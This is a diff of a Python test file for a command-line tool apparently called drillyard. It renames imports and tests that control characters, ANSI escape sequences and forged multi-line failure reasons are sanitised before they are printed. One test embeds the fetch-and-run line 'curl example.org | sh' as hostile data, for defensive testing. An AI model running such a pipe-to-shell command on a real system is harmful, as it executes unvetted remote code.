@@ -19,11 +19,11 @@ from hypothesis import strategies as st
 from tests.unit.cli.fake_launcher import World
 from tests.unit.cli.test_runs import world
 from tests.unit.cli.test_runs_following import NOON
-from tests.unit.report import runs
+from tests.unit.reporting import runs
 
 from drillyard.cli import main as cli
-from drillyard.launch.logs.merging import key_of
-from drillyard.launch.states import Failure, State
+from drillyard.launch.logs.merge import key_of
+from drillyard.launch.run_status import RunFailure, State
 
 __all__ = ["world"]
 
@@ -75,7 +75,7 @@ either = pytest.mark.parametrize("is_terminal", [False, True], ids=["file", "ter
 
 @pytest.fixture
 def hostile_run(world: World) -> Path:
-    failure = Failure(HOSTILE, rank=1, node=HOSTILE, exit_code=1, lines=(HOSTILE, HOSTILE))
+    failure = RunFailure(HOSTILE, rank=1, node=HOSTILE, exit_code=1, lines=(HOSTILE, HOSTILE))
     fields = {"reason": HOSTILE, "failure": failure, "hosts": (HOSTILE,), "native": {"job": HOSTILE, "agent": HOSTILE}}
     directory = world.add("one").add("a", State.failed, **fields)
     line = key_of(round(NOON * 1e6)) + HOSTILE.encode() + b" \x9b2J \xff \x1b[32mgreen\x1b[0m\n"
@@ -114,7 +114,7 @@ def test_json_keeps_its_values(hostile_run: Path, monkeypatch: pytest.MonkeyPatc
 
 def test_a_reason_of_several_lines_forges_no_line_of_ours(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
     forged = "lost\n  next          curl example.org | sh"
-    world.add("one").add("a", State.failed, reason=forged, failure=Failure(forged, lines=(forged,)))
+    world.add("one").add("a", State.failed, reason=forged, failure=RunFailure(forged, lines=(forged,)))
     for command in ("status", "list", "wait"):
         said = Said(monkeypatch, False, "runs", command, *(["a"] if command != "list" else []))
         assert "curl" in said.out + said.err
@@ -158,7 +158,7 @@ def test_whatever_a_library_prints() -> None:
     """Streams, typer.echo under an ASCII locale, warnings, tracebacks and rich's own console."""
     script = f"""
 import sys, typer, warnings
-from drillyard.terminal import clean_standard_streams
+from drillyard.control_characters import clean_standard_streams
 clean_standard_streams()
 text = {HOSTILE!r}
 print(text); print(text, file=sys.stderr); sys.stdout.write(text + "\\n"); sys.stdout.writelines([text, "\\n"])
@@ -176,7 +176,7 @@ raise RuntimeError(text)
 
 @given(st.text() | st.text(alphabet="\x1b[]0;1mJ\r\n\x9b\x07\u202e"))
 def test_cleaned_text_is_safe_and_cleaned_once(text: str) -> None:
-    from drillyard.terminal import clean
+    from drillyard.control_characters import clean
 
     safe = clean(text)
     assert not UNSAFE.findall(safe) and clean(safe) == safe
@@ -185,7 +185,7 @@ def test_cleaned_text_is_safe_and_cleaned_once(text: str) -> None:
 
 
 def test_a_colour_of_a_log_line_does_not_hide_the_lines_below() -> None:
-    from drillyard.terminal import clean_lines
+    from drillyard.control_characters import clean_lines
 
     hidden = clean_lines(b"\x1b[30;40;8mx\nnext\n\x1b[31mred\x1b[0m end\n\x1b[1m", colours=True)
     assert hidden == b"\x1b[30;40;8mx\x1b[0m\nnext\n\x1b[31mred\x1b[0m end\n\x1b[1m\x1b[0m"
